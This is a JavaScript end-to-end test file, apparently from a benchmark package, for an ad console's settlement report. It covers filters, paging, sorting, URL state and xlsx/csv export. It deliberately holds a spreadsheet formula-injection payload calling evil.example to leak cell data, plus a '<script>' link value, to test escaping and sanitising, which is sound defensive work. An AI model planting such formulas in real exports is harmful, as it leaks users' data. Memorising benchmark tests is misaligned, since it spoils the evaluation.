// Settlement report (/information/settlement): filters, grouping, paging,
// sorting, the URL query, and the .xlsx/.csv export of the whole range.
import { readFileSync } from 'node:fs';
import XLSX from 'xlsx';
import { assert, test, until } from '../lib/harness.mjs';
import { clearFaults, setFault, signIn } from '../lib/console.mjs';

const PATH = '/information/settlement';
const AD_TYPES = {
  splash: 'Splash',
  banner: 'Banner',
  interstitial: 'Interstitial',
  native: 'Native',
  rewarded: 'Rewarded video',
};
const HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"Open")';

const bodyRows = (page) => page.locator('[data-testid=settlement-table] tbody tr.ant-table-row');

async function waitReady(page) {
  await page.locator('[data-testid=settlement-table][data-state=ready]').waitFor({ timeout: 20000 });
}

async function openReport(page, baseURL, search = '') {
  await page.goto(`${baseURL}/user/login`);
  await page.evaluate(() => localStorage.setItem('umi_locale', 'en-US'));
  await signIn(page, baseURL, 'demo', { redirect: `${PATH}${search}` });
  await waitReady(page);
}

const query = (page) => new URL(page.url()).searchParams;

/** Today in the report's time zone (Asia/Shanghai), as the page computes it. */
function todayInShanghai() {
  const p = new Intl.DateTimeFormat('en-CA', {
    timeZone: 'Asia/Shanghai',
    year: 'numeric',
    month: '2-digit',
    day: '2-digit',
  }).format(new Date());
  return p;
}
function addDays(date, n) {
  return new Date(Date.parse(`${date}T00:00:00Z`) + n * 86400000).toISOString().slice(0, 10);
}

/** A provider call with the page's own session (the same token and language). */
async function api(page, path, body) {
  return page.evaluate(
    async ([p, b]) => {
      const res = await fetch(p, {
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          'user-token': localStorage.getItem('gsAuthorization') || '',
          'Accept-Language': 'en-US',
        },
        body: JSON.stringify(b),
      });
      return res.json();
    },
    [path, body],
  );
}

async function cellTexts(page, column) {
  const headers = await page.locator('[data-testid=settlement-table] thead th').allTextContents();
  const index = headers.findIndex((h) => h.trim() === column);
  assert.ok(index >= 0, `no column ${column} in ${headers.join('|')}`);
  return bodyRows(page).evaluateAll((rows, i) => rows.map((r) => r.children[i].textContent.trim()), index);
}

const money = (s) => Number(s.replace(/[^0-9.-]/g, ''));

/** RFC 4180 CSV (quoted fields, doubled quotes, CRLF). */
function parseCsv(text) {
  const rows = [];
  let row = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else field += c;
  }
  if (field || row.length) rows.push([...row, field]);
  return rows;
}

test('settlement: filters by app and ad type, grouped by day and ad position, with totals and status tags', async ({
  page,
  baseURL,
}) => {
  await openReport(page, baseURL);
  assert.equal(await bodyRows(page).count(), 7);
  const tags = await page.locator('[data-testid=settlement-table] [data-status]').allTextContents();
  assert.deepEqual(tags, ['Estimated', 'Estimated', 'Estimated', 'Final', 'Final', 'Final', 'Final']);
  await page.getByTestId('settlement-timezone').getByText('Time zone: Asia/Shanghai').waitFor();
  await page.getByTestId('settlement-currency').getByText('Currency: USD').waitFor();

  await page.locator('#appIds').click();
  await page.locator('#appIds').fill('Block Puzzle');
  await page.keyboard.press('Enter');
  await page.keyboard.press('Escape');
  await page.locator('#adTypes').click();
  await page.locator('#adTypes').fill('Banner');
  await page.keyboard.press('Enter');
  await page.keyboard.press('Escape');
  await page.getByRole('checkbox', { name: 'Ad position', exact: true }).check();
  // A draft until Query.
  assert.equal(query(page).get('apps'), null);
  await page.getByRole('button', { name: 'Query' }).click();
  await until(() => query(page).get('group') === 'day,adPosition', 'the grouping in the link');
  await waitReady(page);
  assert.equal(query(page).get('apps'), '1001');
  assert.equal(query(page).get('types'), 'banner');
  // One banner position of Block Puzzle Classic, one row per day.
  assert.equal(await bodyRows(page).count(), 7);
  assert.deepEqual(new Set(await cellTexts(page, 'App')), new Set(['Block Puzzle Classic']));
  assert.deepEqual(new Set(await cellTexts(page, 'Ad type')), new Set(['Banner']));

  const params = Object.fromEntries(query(page));
  const expected = await api(page, '/media/settlement/list', {
    startDate: params.start,
    endDate: params.end,
    appIds: [1001],
    adTypes: ['banner'],
    groupBy: ['day', 'adPosition'],
  });
  const totals = page.getByTestId('settlement-totals');
  assert.equal(money(await totals.locator('[data-metric=revenue]').textContent()), expected.result.totals.revenue);
  assert.equal(money(await totals.locator('[data-metric=requests]').textContent()), expected.result.totals.requests);
  assert.equal(
    await totals.locator('[data-metric=ctr]').textContent(),
    `${(expected.result.totals.ctr * 100).toFixed(2)}%`,
  );
});

test('settlement: pages and sorts on the server; back and forward restore the report', async ({ page, baseURL }) => {
  const today = todayInShanghai();
  await openReport(page, baseURL, `?start=${addDays(today, -29)}&end=${today}&group=adPosition`);
  const total = (
    await api(page, '/media/settlement/list', {
      startDate: addDays(today, -29),
      endDate: today,
      groupBy: ['adPosition'],
    })
  ).result.total;
  assert.ok(total > 20, `several pages (${total} rows)`);
  await page.getByText(`${total} in total`).waitFor();
  const rowsText = () => bodyRows(page).allTextContents();

  await page.locator('thead th', { hasText: 'Revenue' }).click();
  await until(
    () => query(page).get('sort') === 'revenue' && query(page).get('order') === 'ascend',
    'ascending revenue in the link',
  );
  await waitReady(page);
  const ascending = (await cellTexts(page, 'Revenue')).map(money);
  assert.deepEqual(
    ascending,
    [...ascending].sort((a, b) => a - b),
  );
  const ascendingRows = await rowsText();
  await page.locator('thead th', { hasText: 'Revenue' }).click();
  await until(() => query(page).get('order') === 'descend', 'descending revenue');
  await waitReady(page);
  const descending = (await cellTexts(page, 'Revenue')).map(money);
  assert.deepEqual(
    descending,
    [...descending].sort((a, b) => b - a),
  );
  assert.ok(descending[9] >= ascending[9]);
  const firstPage = await rowsText();

  // The benchmark's contract: loading while the query runs, ready with its rows.
  await setFault(baseURL, { path: '/media/settlement/list', type: 'slow', delayMs: 1500, times: 1 });
  await page.locator('.ant-pagination-item-2').click();
  await page.locator('[data-testid=settlement-table][data-state=loading]').waitFor();
  await waitReady(page);
  await clearFaults(baseURL);
  assert.equal(query(page).get('page'), '2');
  const secondPage = await rowsText();
  assert.equal(secondPage.length, 10);
  assert.ok(!secondPage.some((row) => firstPage.includes(row)), 'page 2 shows other rows');
  assert.ok(money((await cellTexts(page, 'Revenue'))[0]) <= descending[9], 'page 2 continues the order');

  await page.goBack();
  await until(() => query(page).get('page') === null, 'back to page 1');
  await waitReady(page);
  assert.deepEqual(await rowsText(), firstPage);
  await page.goBack();
  await until(() => query(page).get('order') === 'ascend', 'back to ascending');
  await waitReady(page);
  assert.deepEqual(await rowsText(), ascendingRows);
  await page.goForward();
  await until(() => query(page).get('order') === 'descend', 'forward to descending');
  await waitReady(page);
  assert.deepEqual(await rowsText(), firstPage);
  // The link opens the same report in another tab.
  const other = await page.context().newPage();
  await other.goto(page.url());
  await other.locator('[data-testid=settlement-table][data-state=ready]').waitFor({ timeout: 20000 });
  assert.deepEqual(await bodyRows(other).allTextContents(), firstPage);
});

test('settlement: a period over one year is refused with a clear message; hostile link values are ignored', async ({
  page,
  baseURL,
}) => {
  const today = todayInShanghai();
  await openReport(
    page,
    baseURL,
    '?apps=1001,1013,abc&types=banner,<script>&group=week&size=1000&sort=password&order=up&start=2020-02-30&end=x',
  );
  // 1013 belongs to another publisher, the rest is malformed: all dropped, and the link shows what applies.
  await until(() => query(page).get('apps') === '1001' && query(page).get('types') === 'banner', 'a cleaned link');
  assert.equal(query(page).get('size'), null);
  assert.equal(query(page).get('sort'), null);
  assert.equal(query(page).get('start'), addDays(today, -6));

  let calls = 0;
  page.on('request', (r) => r.url().endsWith('/media/settlement/list') && (calls += 1));
  const start = addDays(today, -400);
  const inputs = page.locator('.ant-picker-range input');
  await inputs.first().click();
  await inputs.first().press('Control+a');
  await inputs.first().pressSequentially(start);
  await page.keyboard.press('Tab');
  await inputs.nth(1).press('Control+a');
  await inputs.nth(1).pressSequentially(today);
  await page.keyboard.press('Enter');
  await page.getByRole('button', { name: 'Query' }).click();
  await page.getByText('The period is 401 days long; choose at most 366 days (one year)').waitFor();
  assert.equal(calls, 0);
  assert.equal(query(page).get('start'), addDays(today, -6));

  // The presets always give an allowed period.
  await inputs.first().click();
  await page.locator('.ant-picker-presets').getByText('Last month').click();
  await page.getByRole('button', { name: 'Query' }).click();
  await waitReady(page);
  const [y, m] = today.split('-').map(Number);
  const firstOfLastMonth = new Date(Date.UTC(y, m - 2, 1)).toISOString().slice(0, 10);
  await until(() => query(page).get('start') === firstOfLastMonth, 'last month in the link');
  assert.equal(query(page).get('end'), addDays(`${today.slice(0, 7)}-01`, -1));
});

test(
  'settlement: exports the whole filtered range to xlsx and csv in a worker, escaping a hostile app name',
  async ({ page, baseURL }) => {
    const today = todayInShanghai();
    const start = addDays(today, -29);
    await openReport(page, baseURL, `?start=${start}&end=${today}&group=day,adPosition&apps=1001,1002,1007`);
    const renamed = await api(page, '/media/app/update', { id: 1001, name: HOSTILE });
    assert.equal(renamed.code, 0);
    try {
      await page.reload();
      await waitReady(page);
      const workers = [];
      page.on('worker', (w) => workers.push(w.url()));
      const warnings = [];
      page.on('console', (m) => m.type() === 'warning' && warnings.push(m.text()));

      const request = {
        startDate: start,
        endDate: today,
        groupBy: ['day', 'adPosition'],
        appIds: [1001, 1002, 1007],
        adPositionIds: [],
        adTypes: [],
      };
      const expected = (await api(page, '/media/settlement/export', request)).result;
      assert.ok(expected.rows.length > 200, `a range of many pages (${expected.rows.length} rows)`);
      const titles = expected.columns.map((c) => c.title);

      for (const format of ['xlsx', 'csv']) {
        await page.getByTestId('settlement-export').click();
        const item = page.getByRole('menuitem', {
          name: format === 'xlsx' ? 'Export Excel (.xlsx)' : 'Export CSV (.csv)',
        });
        const [download] = await Promise.all([page.waitForEvent('download', { timeout: 30000 }), item.click()]);
        assert.equal(download.suggestedFilename(), `settlement_${start}_${today}.${format}`);
        const file = await download.path();
        const matrix =
          format === 'xlsx'
            ? XLSX.utils.sheet_to_json(XLSX.read(readFileSync(file)).Sheets.Settlement, {
                header: 1,
                blankrows: true,
                defval: '',
              })
            : parseCsv(readFileSync(file, 'utf8').replace(/^\ufeff/, ''));
        const cell = (v) => (format === 'csv' && v !== '' && !Number.isNaN(Number(v)) ? Number(v) : v);
        const header = matrix.findIndex((line) => line[0] === 'Date');
        assert.deepEqual(
          matrix.slice(0, 6).map((l) => l[0]),
          ['Settlement report', 'Period', 'Time zone', 'Currency', 'Generated at', 'Data updated at'],
        );
        assert.equal(matrix[1][1], `${start} – ${today}`);
        assert.equal(matrix[2][1], 'Asia/Shanghai');
        assert.equal(matrix[3][1], 'USD');
        assert.deepEqual(matrix[header], titles);
        const body = matrix.slice(header + 1, header + 1 + expected.rows.length);
        assert.equal(body.length, expected.rows.length);
        body.forEach((line, i) => {
          const r = expected.rows[i];
          const name = r.appName === HOSTILE ? `'${HOSTILE}` : r.appName;
          const want = [
            r.date,
            r.status === 'final' ? 'Final' : 'Estimated',
            name,
            r.adPositionName,
            AD_TYPES[r.adType],
          ];
          assert.deepEqual(line.slice(0, 5), want, `row ${i}`);
          assert.deepEqual(
            line.slice(5).map(cell),
            [r.requests, r.fills, r.fillRate, r.impressions, r.showRate, r.clicks, r.ctr, r.ecpm, r.revenue],
            `row ${i}`,
          );
        });
        assert.ok(
          body.some((line) => line[2] === `'${HOSTILE}`),
          'the hostile name is in the file, escaped',
        );
        assert.ok(body.some((line) => line[2] === 'Tap & Match <b>Puzzle</b>'));
        assert.ok(!matrix.flat().some((v) => typeof v === 'string' && /^[=+\-@]/.test(v)), 'no cell starts a formula');
        const totals = matrix[header + 1 + expected.rows.length];
        const t = expected.totals;
        assert.deepEqual(totals.map(cell), [
          'Total',
          '',
          '',
          '',
          '',
          t.requests,
          t.fills,
          t.fillRate,
          t.impressions,
          t.showRate,
          t.clicks,
          t.ctr,
          t.ecpm,
          t.revenue,
        ]);
        await page
          .getByText(`Exported ${expected.rows.length} rows to settlement_${start}_${today}.${format}`)
          .waitFor();
      }
      assert.equal(
        workers.filter((u) => /\/sheet\.worker\.[0-9a-f]+\.worker\.js$/.test(u)).length,
        2,
        `workers: ${workers.join(', ')}`,
      );
      assert.deepEqual(
        warnings.filter((w) => w.includes('settlement export')),
        [],
      );
    } finally {
      await api(page, '/media/app/update', { id: 1001, name: 'Block Puzzle Classic' });
    }
  },
  { timeout: 120000 },
);
